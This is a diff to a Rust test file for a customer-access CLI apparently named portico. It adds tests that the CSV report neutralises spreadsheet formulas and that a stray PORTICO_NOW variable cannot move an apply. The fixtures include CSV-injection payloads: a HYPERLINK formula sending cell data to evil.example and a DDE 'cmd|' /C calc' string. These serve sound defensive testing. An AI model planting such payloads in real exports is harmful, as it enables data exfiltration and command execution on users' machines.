@@ -15,8 +15,14 @@ common::on_every_engine!(
 
 const PW: &str = "a-long-enough-password";
 
+/// Runs portico at `now`: `PORTICO_NOW` for read-only commands, `--now` for apply (which
+/// ignores `PORTICO_NOW`).
 fn at(env: &Env, now: &str, args: &[&str]) -> (i32, String, String) {
-    let mut cmd = env.portico(args);
+    let mut args = args.to_vec();
+    if args[0] == "apply" {
+        args.extend(["--now", now]);
+    }
+    let mut cmd = env.portico(&args);
     cmd.env("PORTICO_NOW", now).env("PW", PW);
     run(cmd)
 }
@@ -580,4 +586,95 @@ fn a_large_report_opens_in_the_browser() {
     browser.type_into("#search", "u1999x8@");
     assert_eq!(browser.rows().len(), 1);
     eprintln!("and answered a search within {:?}", started.elapsed());
+}
+
+#[test]
+fn the_csv_report_never_hands_a_spreadsheet_a_formula() {
+    let env = Env::sqlite();
+    env.write(
+        "a.yaml",
+        "features: { customer_access: true }\ncustomers:\n  - id: '=HYPERLINK(\"http://evil.example/?\"&A1)'\n    name: '@SUM(A1:A9)'\n    email: ap@acme.example\n    access: { give_access: true, password: { env: PW } }\n    contacts:\n      - { email: x@acme.example, name: '-2+3+cmd|'' /C calc''!A0', access: true, password: { env: PW } }\n      - { email: y@acme.example, name: \"+1\", access: true, password: { env: PW } }\n",
+    );
+    let now = "2027-01-01T00:00:00Z";
+    let (code, _, err) = at(&env, now, &["apply", "-f", "manifests", "--auto-approve"]);
+    assert_eq!(code, 0, "{err}");
+    let (code, csv, err) = at(&env, now, &["report", "--format", "csv", "--out", "-"]);
+    assert_eq!(code, 0, "{err}");
+    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
+    let mut cells = 0;
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            cells += 1;
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula cell: {cell:?} in\n{csv}"
+            );
+        }
+    }
+    assert!(cells > 0);
+    assert!(csv.contains("'=HYPERLINK("), "{csv}");
+    assert!(csv.contains("'@SUM(A1:A9)"), "{csv}");
+    assert!(csv.contains("'-2+3+cmd|"), "{csv}");
+}
+
+#[test]
+fn a_leftover_portico_now_never_moves_an_apply() {
+    let env = Env::sqlite();
+    // Expired before the real clock (the tests run after 2026-01-01).
+    env.write(
+        "a.yaml",
+        &CONTRACTOR.replace("expires: 2027-03-31", "expires: 2026-01-01"),
+    );
+    let apply = ["apply", "-f", "manifests", "--auto-approve"];
+    let mut cmd = env.portico(&apply);
+    cmd.env("PW", PW);
+    let (code, _, err) = run(cmd);
+    assert_eq!(code, 0, "{err}");
+    let granted = format!(
+        "SELECT email FROM logins WHERE {} = '1' ORDER BY email",
+        b("access")
+    );
+    let before = env.rows(&granted);
+    assert!(
+        !before.contains(&"temp@contractor.example".to_string()),
+        "{before:?}"
+    );
+    let queued = env.rows("SELECT email FROM notifications");
+
+    // A PORTICO_NOW left in the environment: ignored, with a warning.
+    let mut cmd = env.portico(&apply);
+    cmd.env("PW", PW).env("PORTICO_NOW", "2025-06-01");
+    let (code, out, err) = run(cmd);
+    assert_eq!(code, 0, "{err}");
+    assert!(err.contains("PORTICO_NOW is ignored"), "{err}");
+    assert!(out.contains("No changes"), "{out}");
+    assert_eq!(env.rows(&granted), before, "expired access re-granted");
+    assert_eq!(
+        env.rows("SELECT email FROM notifications"),
+        queued,
+        "mail queued"
+    );
+
+    // Plan (read-only) still answers what-if questions with it.
+    let mut cmd = env.portico(&["plan", "-f", "manifests"]);
+    cmd.env("PW", PW).env("PORTICO_NOW", "2025-06-01");
+    let (_, out, _) = run(cmd);
+    assert!(out.contains("temp@contractor.example"), "{out}");
+
+    // An explicit --now moves it, says so, and history records it.
+    let mut cmd = env.portico(&[&apply[..], &["--now", "2025-06-01"]].concat());
+    cmd.env("PW", PW);
+    let (code, _, err) = run(cmd);
+    assert_eq!(code, 0, "{err}");
+    assert!(
+        err.contains("applying as of 2025-06-01T23:59:59Z (--now)"),
+        "{err}"
+    );
+    let (_, out, _) = run(env.portico(&["history", "show", "2"]));
+    assert!(
+        out.contains("clock:            2025-06-01T23:59:59Z"),
+        "{out}"
+    );
+    let (_, out, _) = run(env.portico(&["history", "show", "1"]));
+    assert!(!out.contains("clock:"), "{out}");
 }
